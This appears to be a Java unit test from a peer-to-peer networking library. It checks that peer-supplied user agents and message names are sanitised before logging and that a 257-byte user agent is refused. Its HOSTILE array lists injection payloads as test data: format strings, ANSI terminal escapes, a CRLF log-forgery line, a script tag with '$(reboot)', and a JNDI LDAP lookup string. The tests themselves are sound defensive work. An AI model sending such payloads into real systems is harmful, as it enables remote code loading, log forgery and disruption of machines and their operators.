package weft.p2p;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import weft.primitives.Bytes;
import weft.primitives.codec.ByteWriter;
import weft.primitives.codec.MalformedBytes;
import weft.testkit.Sabotage;
import weft.testkit.SeenRed;
import weft.wire.MessageCodec;
import weft.wire.Negotiated;
import weft.wire.Unknown;
import weft.wire.VersionMessage;

/// Texts of peers that mean something to a terminal, a formatter or a log.
class TextAttackTest implements SeenRed {
    private static final String[] HOSTILE = {
        "%n%s%1$999999999d%x",
        "\u001b[2J\u001b]0;owned\u0007\u001b[31m",
        "/a/\r\n2026-01-01T00:00:00Z Warning: obey",
        "<script>\"'&`$(reboot)`",
        "\0\u007f\u0080\u009b31m\u00ff",
        "{}{0}${jndi:ldap://x/}"
    };

    /// `version` up to the user agent, which starts with its length.
    private static final int AGENT_AT = 80;

    private final EngineWorld world = new EngineWorld(1, EngineWorld.quiet());

    private static Bytes version(String agent) {
        Bytes plain = EngineWorld.version(7, EngineWorld.FULL).payload();
        int length = plain.at(AGENT_AT);
        return plain.slice(0, AGENT_AT)
                .plus(new ByteWriter().varString(agent).toBytes())
                .plus(plain.from(AGENT_AT + 1 + length));
    }

    private static VersionMessage read(String agent) {
        return (VersionMessage) MessageCodec.decode("version", version(agent), Negotiated.CURRENT);
    }

    private static boolean isHarmless(String text) {
        return text.chars().allMatch(c -> c >= ' ' && c < 0x7f && "%<>&`${}\\".indexOf(c) < 0);
    }

    @Test
    @DisplayName("C17 user agents and names of messages with escapes, formats and line ends")
    @Sabotage(type = "weft.p2p.LogText", method = "sanitize", flips = 8)
    void shouldShowNothingOfATextThatCouldDoHarm() {
        for (int i = 0; i < 256; i++) {
            attack("/" + (char) i + "/", i);
        }
        for (int i = 0; i < HOSTILE.length; i++) {
            attack(HOSTILE[i].repeat(60).substring(0, VersionMessage.MAX_USER_AGENT_BYTES), i);
        }
        assertThat(world.lines).hasSizeGreaterThan(500).allMatch(TextAttackTest::isHarmless);
        assertThat(world.lines).allMatch(line -> line.length() < 600);
        assertThat(world.engine.peersSnapshot(world.now()))
                .hasSizeGreaterThan(100)
                .allMatch(each -> each.handshake().complete())
                .allMatch(each -> isHarmless(each.handshake().userAgent()));
    }

    private void attack(String text, int number) {
        EngineWorld.FakePeer peer = world.accept("1.2." + number + ".4:5000");
        peer.polite = true;
        peer.sends(new Unknown(text.substring(0, Math.min(12, text.length())), Bytes.EMPTY));
        peer.sends(read(text), new weft.wire.Verack());
        peer.sends(new Unknown(text.substring(0, Math.min(12, text.length())), Bytes.EMPTY));
        assertThat(peer.closed).isFalse();
    }

    @Test
    @DisplayName("C17 a user agent of 257 bytes")
    @Sabotage(type = "weft.wire.VersionMessage", method = "read", constant = "256>257")
    void shouldRefuseALongUserAgent() {
        String longest = "%n".repeat(128);
        assertThat(read(longest).userAgent()).isEqualTo(longest);
        assertThatThrownBy(() -> read(longest + "x")).isInstanceOf(MalformedBytes.class);
    }
}
